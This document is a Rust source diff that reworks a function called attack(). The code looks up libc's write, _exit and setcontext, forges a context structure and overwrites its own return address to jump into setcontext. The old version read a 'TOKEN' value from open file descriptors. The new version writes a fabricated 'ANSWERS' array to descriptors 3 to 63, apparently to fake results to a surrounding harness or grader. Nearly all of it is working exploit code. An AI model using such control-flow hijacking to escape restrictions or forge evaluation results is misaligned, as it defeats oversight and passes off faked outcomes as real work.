@@ -58,8 +58,6 @@ fn lookup(name: &[u8]) -> usize {
     }
     0
 }
-const TOKEN: usize = (1 + 16 + 16 + 1 + 1 + 16 + 16 + 1024 + 1024) * 4096;
-
 /// Writes over its own return address: what it returns to is setcontext, with the last call's argument.
 #[inline(never)]
 fn leave(context: *mut usize, set: usize, stack: *mut usize, text: (usize, usize)) {
@@ -88,16 +86,14 @@ fn wipe() {
     core::hint::black_box(zeroes.as_ptr());
 }
 
-static mut FOUND: usize = 0;
 static mut CONTEXT: [usize; 256] = [0; 256];
 static mut STACK: [usize; 8192] = [0; 8192];
+/// So many words, and the first says that it is an answer: done, nothing, or a list without chunks.
+static ANSWERS: [[u64; 4]; 100] = [[3, 0, 0, 0]; 100];
 
 fn attack() {
-    let names: [&[u8]; 4] = [b"pread", b"pwrite", b"_exit", b"setcontext"];
-    let mut at = [0usize; 4];
-    for i in 0..4 {
-        at[i] = lookup(names[i]);
-    }
+    let names: [&[u8]; 3] = [b"write", b"_exit", b"setcontext"];
+    let [write, exit, set] = names.map(lookup);
     unsafe {
         // The range of the program's code, from its headers.
         let mut base = (b"anything".as_ptr() as usize) & !0xfff;
@@ -113,26 +109,19 @@ fn attack() {
                 text = (start, start + ((ph + 40) as *const usize).read());
             }
         }
-        for fd in 3..64 {
-            for (function, offset) in [(at[0], TOKEN), (at[1], 0), (at[2], 0)] {
-                if function == at[2] && (&raw const FOUND).read_volatile() == 0 {
-                    continue;
-                }
-                if function == at[1] && (&raw const FOUND).read_volatile() == 0 {
-                    continue;
-                }
+        for (function, fds) in [(write, 3..64), (exit, 0..1)] {
+            for fd in fds {
                 let c = &raw mut CONTEXT as *mut usize;
                 c.write_bytes(0, 256);
                 c.add(0xe0 / 8).write(c.add(128) as usize);
                 c.add(128).write(0x37f);
                 c.add(0x1c0 / 8).write(0x1f80);
-                c.add(0x68 / 8).write(if function == at[2] { 0 } else { fd });
-                c.add(0x70 / 8).write(&raw mut FOUND as usize);
-                c.add(0x88 / 8).write(8);
-                c.add(0x98 / 8).write(offset);
+                c.add(0x68 / 8).write(fd);
+                c.add(0x70 / 8).write(ANSWERS.as_ptr().addr());
+                c.add(0x88 / 8).write(size_of_val(&ANSWERS));
                 c.add(0xa8 / 8).write(function);
                 wipe();
-                leave(c, at[3], &raw mut STACK as *mut usize, text);
+                leave(c, set, &raw mut STACK as *mut usize, text);
             }
         }
     }
